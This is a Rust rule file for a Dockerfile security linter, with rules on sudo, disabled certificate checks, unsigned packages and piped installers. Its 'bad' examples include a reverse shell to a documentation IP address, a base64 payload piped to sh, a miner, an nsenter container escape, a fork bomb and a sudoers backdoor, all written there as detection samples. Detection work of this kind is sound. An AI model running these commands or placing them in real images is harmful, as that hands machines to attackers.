//! What scripts run: privileges, trust in what is fetched, attacks.

rules! {
    ST210 Medium warn ["C13"]
        ["hadolint:DL3004", "trivy:DS-0010", "checkov:CKV2_DOCKER_1", "kics:Run_Using_Sudo", "semgrep:no-sudo-in-dockerfile",
         "dockle:DKL-DI-0001"]
        "sudo in RUN"
        because "A build step has the user that USER gives it. sudo needs a setuid program and usually a rule without \
                 password, and both stay in the image as a way up for whatever gets in."
        so "Switch with USER root before the step and back after it; use gosu or su-exec at run time."
        bad "FROM debian:12\nRUN sudo make install\n"
        good "FROM debian:12\nUSER root\nRUN make install\nUSER 1000\n";
    ST211 High warn ["C14"] ["checkov:CKV2_DOCKER_17", "dockle:DKL-LI-0001"] "Password set in the image"
        because "Everybody who has the image, or reads its file, knows the login; where a login service runs, this is \
                 its key."
        so "Set no password: let accounts stay locked, and log in by keys that are given at run time."
        bad "FROM debian:12\nRUN echo 'app:example' | chpasswd\n"
        good "FROM debian:12\nRUN useradd --system app\n";
    ST212 High warn ["C14"] [] "Account without a password"
        because "An empty password lets anybody become this user, also from within a program that was broken into."
        so "Lock the account (passwd -l) instead of emptying its password."
        bad "FROM debian:12\nRUN passwd -d app\n"
        good "FROM debian:12\nRUN passwd -l app\n";
    ST213 Medium warn ["C15"] ["dockle:CIS-DI-0008", "CIS:4.8"] "setuid or setgid bit set"
        because "A program with this bit runs as its owner whoever calls it: the usual way from an ordinary user to \
                 root, and from there at the container's walls."
        so "Leave the bit away; give a program the one capability that it needs, or run the service as its user."
        bad "FROM debian:12\nRUN chmod 4755 /usr/bin/tool\n"
        good "FROM debian:12\nRUN chmod 755 /usr/bin/tool\n";
    ST230 High warn ["C20"] ["dockle:DKL-LI-0003"] "Credential set in a command"
        because "The command line stays in the image's history and what it writes in a layer, where removing it \
                 later does not help."
        so "Fetch private things outside of the build and put the result into the build context."
        bad "FROM debian:12\nRUN git clone https://bob:s3cr3t@git.example.com/a.git\n"
        good "FROM debian:12\nCOPY a /a\n";
    ST240 High warn ["C21"] ["checkov:CKV2_DOCKER_2"] "curl does not check certificates"
        because "Whoever is on the way decides what is downloaded, and the build runs it."
        so "Remove -k; install ca-certificates, or name the authority with --cacert."
        bad "FROM debian:12\nRUN curl -fsSkL https://example.com/a -o /a\n"
        good "FROM debian:12\nRUN curl -fsSL https://example.com/a -o /a\n";
    ST241 High warn ["C21"] ["checkov:CKV2_DOCKER_3"] "wget does not check certificates"
        because "Whoever is on the way decides what is downloaded, and the build runs it."
        so "Remove --no-check-certificate; install ca-certificates, or name the authority with --ca-certificate."
        bad "FROM debian:12\nRUN wget -q --no-check-certificate https://example.com/a\n"
        good "FROM debian:12\nRUN wget -q https://example.com/a\n";
    ST242 High warn ["C22"] ["checkov:CKV2_DOCKER_4"] "pip trusts a host without checking it"
        because "Packages from this host are taken without TLS or in spite of a wrong certificate, and their setup \
                 code runs at once."
        so "Remove --trusted-host; give the authority of a private index with --cert."
        bad "FROM python:3.13\nRUN pip install --trusted-host pypi.example.com -r requirements.txt\n"
        good "FROM python:3.13\nRUN pip install -r requirements.txt\n";
    ST243 High warn ["C22"] ["checkov:CKV2_DOCKER_5"] "Python does not check certificates"
        because "PYTHONHTTPSVERIFY=0 lets whoever is on the way answer for any host, for every program in Python."
        so "Remove the variable; name the authority with SSL_CERT_FILE."
        bad "FROM python:3.13\nENV PYTHONHTTPSVERIFY=0\n"
        good "FROM python:3.13\nENV SSL_CERT_FILE=/etc/ssl/own.pem\n";
    ST244 High warn ["C22"] ["checkov:CKV2_DOCKER_6"] "Node.js does not check certificates"
        because "NODE_TLS_REJECT_UNAUTHORIZED=0 lets whoever is on the way answer for any host, in the build and in \
                 the running service."
        so "Remove the variable; name the authority with NODE_EXTRA_CA_CERTS."
        bad "FROM node:22\nENV NODE_TLS_REJECT_UNAUTHORIZED=0\n"
        good "FROM node:22\nENV NODE_EXTRA_CA_CERTS=/etc/ssl/own.pem\n";
    ST245 High warn ["C23"] ["checkov:CKV2_DOCKER_7", "dockle:CIS-DI-0011", "CIS:4.11"] "apk takes unsigned packages"
        because "A package's scripts run as root; without a signature they are anybody's."
        so "Remove --allow-untrusted; put the repository's key into /etc/apk/keys."
        bad "FROM alpine:3.20\nRUN apk add --allow-untrusted ./own.apk\n"
        good "FROM alpine:3.20\nCOPY own.rsa.pub /etc/apk/keys/\nRUN apk add ./own.apk\n";
    ST246 High warn ["C23"] ["checkov:CKV2_DOCKER_8"] "apt takes unsigned packages"
        because "A package's scripts run as root; without a signature they are anybody's."
        so "Remove the option; put the repository's key into /etc/apt/keyrings and name it with signed-by."
        bad "FROM debian:12\nRUN apt-get install -y --allow-unauthenticated curl\n"
        good "FROM debian:12\nRUN apt-get install -y curl\n";
    ST247 High warn ["C23"] ["checkov:CKV2_DOCKER_9"] "yum or dnf takes unsigned packages"
        because "A package's scripts run as root; without a signature they are anybody's."
        so "Remove --nogpgcheck; import the repository's key with rpm --import."
        bad "FROM fedora:41\nRUN dnf install -y --nogpgcheck nginx\n"
        good "FROM fedora:41\nRUN dnf install -y nginx\n";
    ST248 High warn ["C23"] ["checkov:CKV2_DOCKER_10"] "rpm does not verify a package"
        because "A package's scripts run as root; without digest and signature they are anybody's."
        so "Remove the option; import the key of whoever made the package with rpm --import."
        bad "FROM fedora:41\nRUN rpm -i --nosignature own.rpm\n"
        good "FROM fedora:41\nRUN rpm -i own.rpm\n";
    ST249 High warn ["C23"] ["checkov:CKV2_DOCKER_11"] "apt is forced"
        because "--force-yes answers yes to everything, also to packages without a signature."
        so "Use -y alone."
        bad "FROM debian:12\nRUN apt-get install -y --force-yes curl\n"
        good "FROM debian:12\nRUN apt-get install -y curl\n";
    ST250 High warn ["C22"] ["checkov:CKV2_DOCKER_12"] "npm's variable switches certificates off"
        because "With NPM_CONFIG_STRICT_SSL=false whoever is on the way decides which packages are installed, and \
                 their scripts run at once."
        so "Remove the variable; name the authority with NPM_CONFIG_CAFILE."
        bad "FROM node:22\nENV NPM_CONFIG_STRICT_SSL=false\n"
        good "FROM node:22\nENV NPM_CONFIG_CAFILE=/etc/ssl/own.pem\n";
    ST251 High warn ["C22"] ["checkov:CKV2_DOCKER_13"] "npm or yarn does not check certificates"
        because "Whoever is on the way decides which packages are installed, and their scripts run at once."
        so "Leave strict-ssl on; name the authority with cafile."
        bad "FROM node:22\nRUN npm config set strict-ssl false\n"
        good "FROM node:22\nRUN npm config set cafile /etc/ssl/own.pem\n";
    ST252 High warn ["C22"] ["checkov:CKV2_DOCKER_14"] "git's variable switches certificates off"
        because "Where GIT_SSL_NO_VERIFY is set, to whatever value, git takes code from whoever is on the way."
        so "Remove the variable; name the authority with GIT_SSL_CAINFO."
        bad "FROM debian:12\nRUN GIT_SSL_NO_VERIFY=1 git clone https://git.example.com/a.git\n"
        good "FROM debian:12\nRUN GIT_SSL_CAINFO=/own.pem git clone https://git.example.com/a.git\n";
    ST253 High warn ["C23"] ["checkov:CKV2_DOCKER_15"] "yum's or dnf's repositories without certificates"
        because "With sslverify off whoever is on the way answers for the repository."
        so "Leave sslverify on; name the authority with sslcacert."
        bad "FROM fedora:41\nRUN dnf config-manager --save --setopt=sslverify=0\n"
        good "FROM fedora:41\nRUN dnf config-manager --save --setopt=sslverify=1\n";
    ST254 High warn ["C22"] ["checkov:CKV2_DOCKER_16"] "pip's variable trusts a host without checking it"
        because "Packages from a host in PIP_TRUSTED_HOST are taken in spite of a wrong certificate, in every later \
                 step and in images that are built on this one."
        so "Remove the variable; name the authority with PIP_CERT."
        bad "FROM python:3.13\nENV PIP_TRUSTED_HOST=pypi.example.com\n"
        good "FROM python:3.13\nENV PIP_CERT=/etc/ssl/own.pem\n";
    ST255 High warn ["C22"] [] "Certificate check off"
        because "Whoever is on the way decides what this program downloads."
        so "Leave the check on; name the authority that the host's certificate is from."
        bad "FROM debian:12\nRUN git config --global http.sslVerify false\n"
        good "FROM debian:12\nRUN git config --global http.sslCAInfo /own.pem\n";
    ST256 High warn ["C23"] [] "Repository without signatures"
        because "Packages of this repository are installed whoever made them, and their scripts run as root."
        so "Leave signatures on; name the repository's key (signed-by, gpgkey)."
        bad "FROM debian:12\nRUN echo 'deb [trusted=yes] https://deb.example.com ./' > /etc/apt/sources.list.d/own.list\n"
        good "FROM debian:12\nRUN echo 'deb [signed-by=/own.gpg] https://deb.example.com ./' > /etc/apt/sources.list.d/own.list\n";
    ST257 Medium warn ["G26"] [] "Package index beside the usual one"
        because "With two indexes the higher version wins, whichever it comes from: who knows the name of a private \
                 package publishes a higher one. An index without TLS is whoever is on the way."
        so "Use one index that passes the public one on, by https."
        bad "FROM python:3.13\nRUN pip install --extra-index-url https://pypi.example.com/simple own\n"
        good "FROM python:3.13\nRUN pip install own\n";
    ST258 Medium warn ["G26"] [] "Signing key that vouches for every repository"
        because "A key that apt-key adds is believed for all repositories, the distribution's own among them."
        so "Store the key in /etc/apt/keyrings and name it with signed-by in the one repository that it is for."
        bad "FROM debian:12\nRUN apt-key add own.asc\n"
        good "FROM debian:12\nCOPY own.gpg /etc/apt/keyrings/\n";
    ST259 Medium warn ["G27"] [] "Code installed from a moving place"
        because "A branch or archive without a fixed commit is another program tomorrow, and nothing checks who \
                 wrote it."
        so "Name a commit or a released version, and check its digest."
        bad "FROM python:3.13\nRUN pip install git+https://github.com/example/project\n"
        good "FROM python:3.13\nRUN pip install project==1.2.3\n";
    ST400 High warn ["G14"] [] "Download run as it arrives"
        because "What the host sends is run unseen: it may differ from what others get, and a broken connection runs \
                 half of it."
        so "Download to a file, check its digest, then run it; or put the script into the build context."
        bad "FROM debian:12\nRUN curl -fsSL https://example.com/install.sh | sh\n"
        good "FROM debian:12\nCOPY install.sh /\nRUN sh /install.sh\n";
    ST401 High warn ["G14"] [] "Downloaded file run unchecked"
        because "What the host serves today is run whatever it is; nothing compares it with what somebody looked at."
        so "Check the file's digest (sha256sum -c) or signature before it is run."
        bad "FROM debian:12\nRUN curl -o /i.sh https://example.com/i.sh && sh /i.sh\n"
        good "FROM debian:12\nRUN curl -o /i.sh https://example.com/i.sh && echo \"0a1b /i.sh\" | sha256sum -c && sh /i.sh\n";
    ST402 High error ["G15"] [] "Decoded text run as a program"
        because "Text that is packed until the moment it runs is packed to be overlooked; honest files have it in \
                 plain."
        so "Write the script out, in the file or in the build context."
        bad "FROM debian:12\nRUN echo ZWNobyBoaQo= | base64 -d | sh\n"
        good "FROM debian:12\nRUN echo hi\n";
    ST403 Critical error ["G16"] [] "Reverse shell"
        because "A shell whose input and output are a connection hands the step, and what it can reach, to whoever is \
                 at the other end."
        so "Remove the command."
        bad "FROM debian:12\nRUN bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
        good "FROM debian:12\nRUN bash -c 'echo > /dev/tcp/127.0.0.1/80'\n";
    ST404 Critical error ["G17"] [] "Miner"
        because "The machine's processors would work for the author of the file."
        so "Remove the program."
        bad "FROM debian:12\nRUN ./xmrig -o pool.example.com:3333\n"
        good "FROM debian:12\nRUN make\n";
    ST405 Critical error ["G18"] [] "Attempt at the container's walls"
        because "These programs enter other namespaces, load kernel modules or make device nodes: nothing that \
                 building needs, and the first steps out of a container."
        so "Remove the command."
        bad "FROM debian:12\nRUN nsenter -t 1 -m -p sh\n"
        good "FROM debian:12\nRUN make\n";
    ST406 Medium warn ["G21"] [] "Command that uses a resource up"
        because "It takes processes, memory or disk until a limit ends it, and slows down the others on the machine."
        so "Remove the command, or give it a small bound."
        bad "FROM debian:12\nRUN :(){ :|:& };:\n"
        good "FROM debian:12\nRUN fallocate -l 10M /a\n";
    ST407 Medium warn ["G25"] [] "Foreign code loaded into every program"
        because "These variables and files make programs load a library or script that their own text does not \
                 name: what is judged is not what runs."
        so "Remove it, or set it for the one command that needs it."
        bad "FROM debian:12\nENV LD_PRELOAD=/tmp/hook.so\n"
        good "FROM debian:12\nENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n";
    ST408 Medium warn ["G28"] [] "Write to a file that gives access or runs by itself"
        because "Keys, sudo rules, cron entries and start scripts let somebody in or run something later, far from \
                 the step that everybody looks at."
        so "Remove the write; start what is needed in ENTRYPOINT, and give access at run time."
        bad "FROM debian:12\nRUN echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers\n"
        good "FROM debian:12\nRUN echo option >> /etc/app.conf\n";
    ST409 Low info ["G29"] [] "Health check that calls out"
        because "It runs again and again for as long as the container lives: a beacon that tells somebody outside \
                 that it is up."
        so "Ask the service itself, on the loopback address."
        bad "FROM debian:12\nHEALTHCHECK CMD curl -f https://example.com/ping\n"
        good "FROM debian:12\nHEALTHCHECK CMD curl -f http://localhost:8080/health\n";
    ST410 Low info ["G30"] [] "Container engine in the image"
        because "An engine inside a container works only with privileges or the host's socket, which it will not \
                 get here."
        so "Remove the engine; build and run images outside."
        bad "FROM debian:12\nRUN apt-get update && apt-get install -y docker.io\n"
        good "FROM debian:12\nRUN apt-get update && apt-get install -y curl\n";
    ST420 Medium warn [] [] "Shell text that cannot be read"
        because "It does not parse as a shell reads it, or its program is a pattern of file names: no rule knows what it \
                 runs. What is nested or long beyond all that people write, so that it could hide anything, is an error."
        so "Correct the quotes and brackets, or put the script into the build context."
        bad "FROM debian:12\nRUN if true; then echo\n"
        good "FROM debian:12\nRUN if true; then echo; fi\n";
}
